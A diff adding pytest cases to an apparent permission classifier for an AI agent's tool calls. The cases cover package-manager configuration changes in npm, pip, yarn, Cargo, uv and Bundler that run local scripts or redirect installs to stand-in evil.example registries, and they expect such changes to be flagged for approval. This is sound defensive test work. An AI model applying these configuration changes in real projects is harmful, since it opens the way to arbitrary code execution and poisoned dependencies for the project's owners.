@@ -132,3 +132,67 @@ def test_key_read_is_hard() -> None:
     d = decide({"tool_name": "Read", "tool_input": {"file_path": "/home/ana/.local/state/clearance/audit.key"}})
     assert d.decision == DENY
     assert any(f.verdict == HARD_DENY for f in d.findings), d.findings
+
+
+# -- 4. package-manager configuration that runs or redirects code (written after the first fixes: the classifier
+# in pkgconfig.py; these are cases of the class no example was written for) ---------------------------------------
+PKG_CONFIG_THROUGH: list[tuple[object, str]] = [
+    ("echo 'script-shell=./x.sh' >> .npmrc", ASK),
+    ("printf 'node-options=--require ./hook.js\\n' >> .npmrc", ASK),
+    ("npm config set ignore-scripts false", ASK),
+    ("npm_config_script_shell=/tmp/x.sh npm test", ASK),
+    ("PIP_TRUSTED_HOST=evil.example pip install x", ASK),
+    ("npm ci --no-strict-ssl", ASK),
+    ({"tool_name": "Write", "tool_input": {"file_path": "/home/ana/webapp/.yarnrc.yml", "content": "yarnPath: ./.yarn/releases/yarn-evil.cjs\n"}}, ASK),
+    (
+        {
+            "tool_name": "Write",
+            "tool_input": {"file_path": "/home/ana/webapp/.cargo/config.toml", "content": '[target.x86_64-unknown-linux-gnu]\nrunner = "/tmp/run.sh"\n'},
+        },
+        ASK,
+    ),
+    ({"tool_name": "Write", "tool_input": {"file_path": "/home/ana/webapp/uv.toml", "content": 'index-url = "https://pypi.evil.example/simple"\n'}}, ASK),
+    (
+        {
+            "tool_name": "Write",
+            "tool_input": {
+                "file_path": "/home/ana/webapp/.bundle/config",
+                "content": '---\nBUNDLE_MIRROR__HTTPS://RUBYGEMS__ORG/: "https://gems.evil.example"\n',
+            },
+        },
+        ASK,
+    ),
+    (
+        {
+            "tool_name": "Edit",
+            "tool_input": {
+                "file_path": "/home/ana/webapp/.npmrc",
+                "old_string": "fund=false",
+                "new_string": "fund=false\n@acme:registry=https://npm.evil.example/",
+            },
+        },
+        ASK,
+    ),
+]
+PKG_CONFIG_ORDINARY: list[object] = [
+    "echo 'save-exact=true' >> .npmrc",
+    "npm install --ignore-scripts",
+    "npm config set fund false",
+    {"tool_name": "Write", "tool_input": {"file_path": "/home/ana/webapp/.yarnrc.yml", "content": "nodeLinker: node-modules\n"}},
+    {"tool_name": "Write", "tool_input": {"file_path": "/home/ana/webapp/.cargo/config.toml", "content": '[build]\ntarget = "wasm32-unknown-unknown"\n'}},
+    {"tool_name": "Write", "tool_input": {"file_path": "/home/ana/webapp/.npmrc", "content": "engine-strict=true\nregistry=https://registry.npmjs.org/\n"}},
+]
+
+
+@pytest.mark.parametrize(("example", "want"), PKG_CONFIG_THROUGH)
+def test_package_config_through(example: object, want: str) -> None:
+    ev = example if isinstance(example, dict) else {"tool_name": "Bash", "tool_input": {"command": example}}
+    d = decide(ev)
+    assert d.decision == want, (example, d.decision, d.rules, d.reason)
+
+
+@pytest.mark.parametrize("example", PKG_CONFIG_ORDINARY)
+def test_package_config_ordinary(example: object) -> None:
+    ev = example if isinstance(example, dict) else {"tool_name": "Bash", "tool_input": {"command": example}}
+    d = decide(ev)
+    assert d.decision == ALLOW, (example, d.decision, d.rules, d.reason)
